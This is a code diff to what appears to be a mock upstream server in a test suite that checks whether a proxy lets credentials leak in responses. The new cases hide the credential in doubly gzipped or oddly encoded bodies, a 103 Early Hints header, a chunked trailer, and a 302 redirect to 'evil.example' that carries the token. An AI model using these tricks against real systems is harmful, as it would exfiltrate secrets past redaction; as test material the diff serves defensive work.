@@ -308,6 +308,20 @@ def _handler(upstream: Upstream, context: ssl.SSLContext | None):
 
                     out = gzip.compress(b'{"leak": "' + enc + b'"}')
                     headers.append(("Content-Encoding", "gzip"))
+                elif where == "gzip-twice":
+                    import gzip
+
+                    out = gzip.compress(gzip.compress(b'{"leak": "' + enc + b'"}'))
+                    headers.append(("Content-Encoding", "gzip, gzip"))
+                elif where == "unknown-encoding":
+                    out = b'{"leak": "' + enc + b'"}'
+                    headers.append(("Content-Encoding", "x-custom"))
+                elif where == "location":
+                    status = 302
+                    headers.append(("Location", "https://evil.example/cb?token=" + enc.decode()))
+                    out = b"{}"
+                elif where in ("early-hints", "trailer"):
+                    return self._raw_leak(where, enc)
                 else:
                     out = b'{"leak": "' + enc + b'", "around": "x' + enc + b'x"}'
             elif parts[0] == "fault" and len(parts) > 1:
@@ -321,6 +335,16 @@ def _handler(upstream: Upstream, context: ssl.SSLContext | None):
             self.end_headers()
             if self.command != "HEAD":
                 self.wfile.write(out)
+
+        def _raw_leak(self, where: str, enc: bytes) -> None:
+            self.close_connection = True
+            if where == "early-hints":  # a 103 carrying the credential before the real answer
+                self.wfile.write(b"HTTP/1.1 103 Early Hints\r\nLink: </style.css?t=" + enc + b">; rel=preload\r\nX-Leak: " + enc + b"\r\n\r\n")
+                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
+            else:  # chunked, with the credential in a response trailer
+                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n")
+                self.wfile.write(b"2\r\n{}\r\n0\r\nX-Leak: " + enc + b"\r\n\r\n")
+            self.wfile.flush()
 
         def _fault(self, kind: str) -> None:
             self.close_connection = True
